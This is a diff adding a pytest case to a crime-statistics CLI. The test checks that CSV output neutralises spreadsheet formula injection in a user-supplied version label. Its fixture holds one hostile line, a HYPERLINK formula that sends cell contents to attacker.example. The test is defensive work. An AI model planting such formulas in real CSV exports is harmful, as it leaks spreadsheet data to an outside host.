@@ -126,3 +126,18 @@ def test_rates_of_an_unknown_territory_exit_2(runner, country):
     result = runner.invoke(main, ["crime", "rates", "--iccs", "0101", "--year", "2025", "--territory", "ZZ"])
     assert result.exit_code == 2
     assert "territory_not_found" in result.output
+
+
+def test_rates_csv_escapes_a_formula_in_a_users_label(runner, cli_env):
+    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+    for args in (
+        ["territories", write(cli_env, "territorios.csv", TERRITORIES_CSV)],
+        ["population", write(cli_env, "poblacion.csv", population_csv()), "--population-version", hostile],
+        ["mapping", write(cli_env, "delitos.csv", MAPPING_CSV), "--mapping-version", "v1"],
+    ):
+        assert runner.invoke(main, ["crime", "import", *map(str, args)]).exit_code == 0
+    assert import_counts(runner, write(cli_env, "homicidios.csv", homicides_csv())).exit_code == 0
+    result = runner.invoke(main, ["crime", "rates", "--iccs", "0101", "--year", "2025", "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    [row] = list(csv.DictReader(io.StringIO(result.output)))
+    assert row["population_version"] == "'" + hostile
